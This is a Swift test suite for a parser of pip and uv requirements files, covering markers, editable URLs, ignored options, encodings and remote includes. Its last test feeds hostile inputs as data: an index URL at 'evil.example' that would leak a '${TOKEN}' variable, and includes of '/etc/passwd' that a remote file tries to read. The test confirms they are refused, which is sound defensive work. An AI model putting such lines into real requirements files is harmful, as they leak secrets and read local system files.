import SpecParser
import TestSupport
import Testing

/// Lines that pip and uv take, each with what is made of it.
@Suite("Lines that pip and uv take")
struct AcceptedLinesTests {
  static let digest = String(repeating: "0123456789abcdef", count: 4)

  private static func load(
    _ contents: [UInt8], others: [String: String] = [:], role: String = "requirements",
    fetched: FetchedSources = FetchedSources(), environment: [String: String] = [:]
  ) throws -> RequirementsInput {
    struct Missing: Error {}
    let loader = RequirementsLoader(environment: environment) { path in
      if path == "in.txt" { return contents }
      guard let text = others[path] else { throw Missing() }
      return Array(text.utf8)
    }
    let files = [Located("in.txt", at: SourceLocation(file: "<arguments>"))]
    return try loader.load(
      requirements: role == "requirements" ? files : [], constraints: role == "constraints" ? files : [],
      overrides: role == "overrides" ? files : [], fetched: fetched)
  }

  private static func load(_ text: String, role: String = "requirements") throws -> RequirementsInput {
    try load(Array(text.utf8), role: role)
  }

  @Test(arguments: [
    // Commas and semicolons that end a line.
    ("a>=1.0,", "a>=1.0"), ("a>=1.0 , <2 , ", "a>=1.0,<2"), ("a (>=1,)", "a>=1"),
    ("a>=1, ; os_name == 'posix'", "a>=1 ; os_name == \"posix\""),
    ("a==1.0;", "a==1.0"), ("a ;", "a"), ("a[x]>=1 ; # why", "a[x]>=1"),
    // Markers behind addresses, with and without white space.
    (
      "foo @ https://h.example/foo-1.0-py3-none-any.whl; sys_platform == 'linux'",
      "foo @ https://h.example/foo-1.0-py3-none-any.whl ; sys_platform == \"linux\""
    ),
    (
      "foo @ https://h.example/foo-1.0-py3-none-any.whl;sys_platform=='linux'",
      "foo @ https://h.example/foo-1.0-py3-none-any.whl ; sys_platform == \"linux\""
    ),
    (
      "foo@https://h.example/foo-1.0-py3-none-any.whl ;sys_platform=='linux'",
      "foo @ https://h.example/foo-1.0-py3-none-any.whl ; sys_platform == \"linux\""
    ),
    (
      "https://h.example/foo-1.0-py3-none-any.whl; sys_platform == 'linux'",
      "foo @ https://h.example/foo-1.0-py3-none-any.whl ; sys_platform == \"linux\""
    ),
    ("https://h.example/a;b/foo-1.0-py3-none-any.whl", "foo @ https://h.example/a;b/foo-1.0-py3-none-any.whl"),
    (
      "foo @ git+https://h.example/foo@v1; python_version < '4'",
      "foo @ git+https://h.example/foo@v1 ; python_version < \"4\""
    ),
    (
      "git+https://h.example/foo#egg=foo ; python_version < '4'",
      "foo @ git+https://h.example/foo ; python_version < \"4\""
    ),
    ("foo @ https://h.example/foo-1.0.tar.gz;", "foo @ https://h.example/foo-1.0.tar.gz"),
    // What is edited in place is installed like anything else.
    (
      "-e git+https://h.example/foo#egg=foo ; python_version < '4'",
      "foo @ git+https://h.example/foo ; python_version < \"4\""
    ),
    (
      "--editable=git+https://h.example/foo#egg=foo; os_name == \"nt\"",
      "foo @ git+https://h.example/foo ; os_name == \"nt\""
    ),
    ("-e 'git+https://h.example/foo#egg=foo'", "foo @ git+https://h.example/foo"),
  ])
  func asPipAndUvReadThem(line: String, requirement: String) throws {
    let input = try Self.load(line + "\n")
    #expect(input.requirements.map(\.requirement.value.description) == [requirement])
    #expect(input.warnings.isEmpty)
  }

  @Test(arguments: [
    ("--trusted-host pypi.example", "1:1", "[ignored-option] '--trusted-host'"),
    ("--use-feature=fast-deps", "1:1", "[ignored-option] '--use-feature'"),
    ("a --config-settings 'x=y' -C z=1 --hash=sha256:\(digest)", "1:3", "[ignored-option] '--config-settings'"),
    ("a --no-binary :all:", "1:3", "[misplaced-option] '--no-binary' has no effect after a requirement"),
    ("a==1 --extra-index-url https://h.example/simple", "1:6", "[misplaced-option] '--extra-index-url'"),
  ])
  func warnsOfWhatHasNoEffect(line: String, place: String, said: String) throws {
    let input = try Self.load(line + "\n")
    let warning = try #require(input.warnings.first)
    #expect(warning.severity == .warning)
    #expect(warning.description.hasPrefix("in.txt:\(place): warning: \(said)"), "\(warning)")
    #expect(input.requirements.count == (line.hasPrefix("a") ? 1 : 0))
    #expect(input.extraIndexURLs.isEmpty && input.formatControl == FormatControl())
  }

  @Test("only so many indexes and places of files may be named", arguments: ["--extra-index-url", "--find-links"])
  func tooManyPlaces(option: String) throws {
    let lines = (0..<RequirementsInput.mostPlaces).map { "\(option) https://h\($0).example/simple\n" }.joined()
    let input = try Self.load(lines + lines)
    #expect(max(input.extraIndexURLs.count, input.links.count) == RequirementsInput.mostPlaces)
    let error = #expect(throws: InvalidInput.self) { try Self.load(lines + "\(option) https://other.example/simple\n") }
    #expect(error?.diagnostics.map { "\($0.location)" } == ["in.txt:101:\(option.utf8.count + 2)"])
    #expect(error?.diagnostics.map(\.code.name) == ["too-many-places"])
  }

  @Test("an option may be cut short where it can mean one only, as in pip")
  func abbreviations() throws {
    let input = try Self.load("--extra-index https://h.example/simple\n--find ./wheels\n--prefer-b\n")
    #expect(input.extraIndexURLs.map(\.value.url) == ["https://h.example/simple"])
    #expect(input.links.map(\.value) == [.folder(path: "wheels")])
    #expect(input.prefersBinary != nil)
    #expect(throws: InvalidInput.self) { try Self.load("--no https://h.example\n") }
  }

  @Test("extras of constraints have no effect, and are named once (uv)")
  func extrasInConstraints() throws {
    let input = try Self.load("a[x]<2\nb[y]==1\n", role: "constraints")
    #expect(input.constraints.map(\.requirement.value.description) == ["a[x]<2", "b[y]==1"])
    #expect(
      input.warnings.map(\.description) == [
        "in.txt:1:2: warning: [ignored-extras] extras have no effect in constraints\n  hint: name extras in the requirements"
      ])
  }

  @Test func `releases are chosen by project, as pip 26 does`() throws {
    let control = try Self.load("--only-final :all: --all-releases=A.b,c\n--only-final c\n").releaseControl
    func allows(_ name: String) throws -> Bool? { control.allowsPrereleases(of: try #require(PackageName(name))) }
    #expect(try allows("a-b") == true)
    #expect(try allows("c") == false)
    #expect(try allows("d") == false)
    #expect(control.description == "--all-releases a-b --only-final :all: --only-final c")
    #expect(try Self.load("a\n").releaseControl.allowsPrereleases(of: #require(PackageName("a"))) == nil)
  }

  @Test("--no-require-hashes takes --require-hashes back")
  func noRequireHashes() throws {
    #expect(try Self.load("--require-hashes\n--no-require-hashes\na\n").requirements.count == 1)
  }

  // MARK: Encodings

  private static let text = "# Größe\r\na==1.0 # ü\nb ; platform_version != '\u{1F40D}'\n"

  private static func utf16(_ text: String, isBigEndian: Bool) -> [UInt8] {
    text.utf16.flatMap { unit in
      let bytes = [UInt8(unit >> 8), UInt8(unit & 0xFF)]
      return isBigEndian ? bytes : bytes.reversed()
    }
  }

  private static func utf32(_ text: String, isBigEndian: Bool) -> [UInt8] {
    text.unicodeScalars.flatMap { scalar in
      let bytes = (0..<4).map { UInt8(scalar.value >> (24 - 8 * $0) & 0xFF) }
      return isBigEndian ? bytes : bytes.reversed()
    }
  }

  @Test("reads what a byte order mark tells, as pip does")
  func byteOrderMarks() throws {
    let files: [[UInt8]] = [
      [0xEF, 0xBB, 0xBF] + Array(Self.text.utf8),
      [0xFF, 0xFE] + Self.utf16(Self.text, isBigEndian: false),
      [0xFE, 0xFF] + Self.utf16(Self.text, isBigEndian: true),
      [0xFF, 0xFE, 0, 0] + Self.utf32(Self.text, isBigEndian: false),
      [0, 0, 0xFE, 0xFF] + Self.utf32(Self.text, isBigEndian: true),
    ]
    for file in files {
      let input = try Self.load(file)
      #expect(
        input.requirements.map { "\($0.requirement.location) \($0.requirement.value.text)" } == [
          "in.txt:2:1 a==1.0", "in.txt:3:1 b ; platform_version != '\u{1F40D}'",
        ])
    }
    #expect(try Self.load([0xFF, 0xFE]).requirements.isEmpty)
    for damaged: [UInt8] in [[0xFF, 0xFE, 0x00, 0xD8], [0xFE, 0xFF, 0x61], [0xFF, 0xFE, 0, 0, 1, 0, 0x11, 0]] {
      #expect(throws: InvalidInput.self) { try Self.load(damaged) }
    }
  }

  @Test("reads what a comment of the first two lines declares (PEP 263), as pip does")
  func declaredEncodings() throws {
    func marker(_ head: String, _ bytes: [UInt8]) throws -> String? {
      let file = Array("\(head)\na ; platform_version != '".utf8) + bytes + Array("'\n".utf8)
      return try Self.load(file).requirements.first?.requirement.value.marker?.description
    }
    #expect(try marker("# -*- coding: latin-1 -*-", [0xFC]) == "platform_version != \"ü\"")
    #expect(try marker("# x\n# vim: set fileencoding=cp1252 :", [0x80]) == "platform_version != \"€\"")
    #expect(try marker("# coding=utf_8", Array("ü".utf8)) == "platform_version != \"ü\"")
    #expect(throws: InvalidInput.self) { try marker("# coding: ascii", [0xFC]) }
    #expect(throws: InvalidInput.self) { try marker("# x\n# y\n# coding: latin-1", [0xFC]) }
    #expect(throws: InvalidInput.self) { try marker("# coding: klingon", Array("x".utf8)) }
  }

  // MARK: Servers

  @Test("names what has to be fetched, and goes on from there")
  func remoteFiles() throws {
    let text = """
      a
      -c https://me:pw@h.example/limits/all.txt?token=x
      -r https://h.example/base.txt#sha256=\(Self.digest)
      git+https://h.example/own@v1 ; python_version < '4'
      -e git+https://h.example/more
      """
    var fetched = FetchedSources()
    func load() throws -> RequirementsInput { try Self.load(Array(text.utf8), fetched: fetched) }
    func missing(_ input: RequirementsInput) -> [String] {
      input.missing.map { source in
        switch source {
        case .file(let url): "\(url.location) \(url.value.url)"
        case .name(let reference): "\(reference.location) \(reference.value.url)"
        }
      }
    }
    let first = try load()
    #expect(
      missing(first) == [
        "in.txt:2:4 https://h.example/limits/all.txt?token=x", "in.txt:3:4 https://h.example/base.txt",
        "in.txt:4:1 git+https://h.example/own@v1", "in.txt:5:1 git+https://h.example/more",
      ])
    fetched.files["https://h.example/limits/all.txt?token=x"] = .init(
      contents: Array("a<2\n-c ../more.txt\n".utf8), sha256: "11")
    fetched.files["https://h.example/base.txt"] = .init(
      contents: Array("b ; os_name == 'nt'\n".utf8), sha256: Self.digest)
    fetched.names["git+https://h.example/own@v1"] = PackageName("own")
    fetched.names["git+https://h.example/more"] = PackageName("more")
    #expect(try missing(load()) == ["https://h.example/limits/all.txt:2:4 https://h.example/more.txt"])
    fetched.files["https://h.example/more.txt"] = .init(contents: Array("b==1\n".utf8), sha256: "22")
    let input = try load()
    #expect(input.missing.isEmpty)
    #expect(
      input.requirements.map { "\($0.requirement.location) \($0.requirement.value)" } == [
        "in.txt:1:1 a", "https://h.example/base.txt:1:1 b ; os_name == \"nt\"",
        "in.txt:4:1 own @ git+https://h.example/own@v1 ; python_version < \"4\"",
        "in.txt:5:4 more @ git+https://h.example/more",
      ])
    #expect(input.constraints.map(\.requirement.value.description) == ["a<2", "b==1"])
    #expect(
      input.remoteFiles == [
        .init(url: "https://h.example/limits/all.txt", sha256: "11"),
        .init(url: "https://h.example/more.txt", sha256: "22"),
        .init(url: "https://h.example/base.txt", sha256: Self.digest),
      ])
  }

  @Test("a file of a server gets no variables of the environment and reads no file of this machine")
  func remoteFilesAreNotTrusted() throws {
    func mistake(_ contents: String, sha256: String = "11") throws -> String {
      var fetched = FetchedSources()
      fetched.files["https://h.example/c.txt"] = .init(contents: Array(contents.utf8), sha256: sha256)
      do {
        let text = "-c https://h.example/c.txt#sha256=\(Self.digest)"
        _ = try Self.load(
          Array((sha256 == "11" ? text : "-r https://h.example/c.txt").utf8), others: ["/etc/passwd": "x"],
          fetched: fetched, environment: ["TOKEN": "s3cr3t"])
        return ""
      } catch let error as InvalidInput {
        return error.description
      }
    }
    #expect(try mistake("a").contains("in.txt:1:4: error: [wrong-sum]"))
    let variable = try mistake("--extra-index-url https://evil.example/${TOKEN}", sha256: Self.digest)
    #expect(variable.contains("environment variables are not expanded in a remote file: '${TOKEN}'"))
    #expect(!variable.contains("s3cr3t"))
    // `/etc/passwd` is one of the same server.
    var fetched = FetchedSources()
    fetched.files["https://h.example/x/c.txt"] = .init(
      contents: Array("-r /etc/passwd\n-r ./d.txt\n".utf8), sha256: "1")
    let input = try Self.load(
      Array("-r https://h.example/x/c.txt".utf8), others: ["/etc/passwd": "root"], fetched: fetched)
    #expect(input.missing.count == 2 && input.requirements.isEmpty)
    #expect(try mistake("-r file:///etc/passwd", sha256: Self.digest).contains("[remote-include]"))
  }
}
